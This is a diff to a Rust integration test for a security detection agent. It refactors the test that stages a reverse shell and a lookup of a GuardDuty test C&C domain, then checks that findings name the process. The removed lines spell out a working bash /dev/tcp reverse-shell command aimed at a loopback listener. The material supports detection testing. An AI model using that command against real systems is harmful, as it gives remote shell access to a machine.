@@ -2,7 +2,7 @@
 //! GuardDuty test C&C domain, and `ward-collector detect` turns the recording into GuardDuty findings
 //! that name the process.
 
-use std::io::{Read, Write};
+use std::io::Write;
 use std::net::TcpListener;
 use std::process::{Command, Stdio};
 use std::time::Duration;
@@ -19,7 +19,6 @@ fn reverse_shell_and_cnc_lookup_become_findings_with_the_process() {
     }
     let listener = TcpListener::bind("127.0.0.1:0").unwrap();
     let port = listener.local_addr().unwrap().port();
-    let dns = ward_tests::dns_server_once();
     let agent = Agent::start(&[
         "--types",
         "process_exec,process_fork,process_exit,net_stdio_socket,dns_query",
@@ -27,30 +26,10 @@ fn reverse_shell_and_cnc_lookup_become_findings_with_the_process() {
     let mark = marker("detect");
 
     // A reverse shell to a loopback listener (loopback peers must not be exempt).
-    let mut shell = Command::new("bash")
-        .args([
-            "-c",
-            &format!("exec bash --norc -i >& /dev/tcp/127.0.0.1/{port} 0>&1 # {mark}"),
-        ])
-        .stdin(Stdio::null())
-        .spawn()
-        .unwrap();
-    let (mut conn, _) = listener.accept().unwrap();
-    conn.write_all(b"exit\n").unwrap();
-    let _ = conn.read_to_end(&mut Vec::new());
-    shell.wait().unwrap();
+    ward_tests::reverse_shell(&listener, &mark);
 
     // A lookup of one of GuardDuty's test C&C domains.
-    let mut lookup = Command::new("/usr/bin/python3")
-        .args([
-            "-c",
-            &ward_tests::python_dns_query("guarddutyc2activityb.com"),
-        ])
-        .spawn()
-        .unwrap();
-    let lookup_pid = lookup.id();
-    assert!(lookup.wait().unwrap().success());
-    dns.join().unwrap();
+    let lookup_pid = ward_tests::dns_lookup("guarddutyc2activityb.com");
 
     let events = agent
         .events_until(WAIT, |e| {
